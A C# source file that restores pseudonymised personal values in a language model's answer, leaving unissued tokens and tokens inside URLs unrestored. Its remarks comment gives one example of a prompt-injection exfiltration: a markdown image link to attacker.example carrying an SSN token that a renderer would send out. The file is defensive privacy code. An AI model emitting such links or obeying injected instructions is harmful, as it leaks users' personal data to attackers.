using System.Text;

namespace Caduceus.Detection.Anonymization;

/// <summary>
/// Puts real values back into a text that speaks in pseudonym tokens (a model's answer): every token issued in the
/// scope becomes its value. A token never issued in the scope is left as it is, so a model that invents
/// <c>&lt;NAME_7&gt;</c> gets nothing. For an answer that streams, use <see cref="StreamingPseudonymRestorer"/>.
/// </summary>
/// <remarks>
/// By default a token inside a URL (a run of text holding <c>//</c> or <c>www.</c>) is not restored: a model steered
/// by an injected instruction could otherwise write <c>![x](https://attacker.example/?q=&lt;SSN_1&gt;)</c> and have
/// the client's markdown renderer send the restored value away. The token stays, which leaks nothing.
/// </remarks>
public static class PseudonymRestorer
{
    /// <summary><paramref name="text"/> with the scope's tokens replaced; the same instance when none is.</summary>
    public static string Restore(string text, PseudonymTable pseudonyms, bool restoreInsideUrls = false) =>
        Restore(text, pseudonyms, restoreInsideUrls, out _);

    /// <summary><paramref name="text"/> with the scope's tokens replaced, and how many were.</summary>
    public static string Restore(string text, PseudonymTable pseudonyms, bool restoreInsideUrls, out int restored)
    {
        var run = default(UrlRun);
        return Restore(text, pseudonyms, restoreInsideUrls, ref run, out restored);
    }

    /// <summary>Restores a piece of a longer text, <paramref name="run"/> carrying the URL state across pieces.</summary>
    internal static string Restore(string text, PseudonymTable pseudonyms, bool restoreInsideUrls, ref UrlRun run, out int restored)
    {
        ArgumentNullException.ThrowIfNull(text);
        ArgumentNullException.ThrowIfNull(pseudonyms);
        restored = 0;
        StringBuilder? result = null;
        var copied = 0;
        var scanned = 0;
        var open = text.IndexOf('<', StringComparison.Ordinal);
        while (open >= 0)
        {
            run.Advance(text.AsSpan(scanned, open - scanned));
            scanned = open;
            var close = text.AsSpan(open, Math.Min(PseudonymToken.MaxLength, text.Length - open)).IndexOf('>');
            if (close > 0)
            {
                var token = text.AsSpan(open, close + 1);
                if ((restoreInsideUrls || !run.InUrl) && PseudonymToken.TryParse(token, out _, out _) && pseudonyms.TryGetValue(token, out var value))
                {
                    result ??= new StringBuilder(text.Length + 32);
                    result.Append(text, copied, open - copied).Append(value);
                    copied = scanned = open + token.Length;
                    run.Advance(value);
                    restored++;
                    open = text.IndexOf('<', copied);
                    continue;
                }
            }

            open = text.IndexOf('<', open + 1);
        }

        run.Advance(text.AsSpan(scanned));
        return result is null ? text : result.Append(text, copied, text.Length - copied).ToString();
    }
}
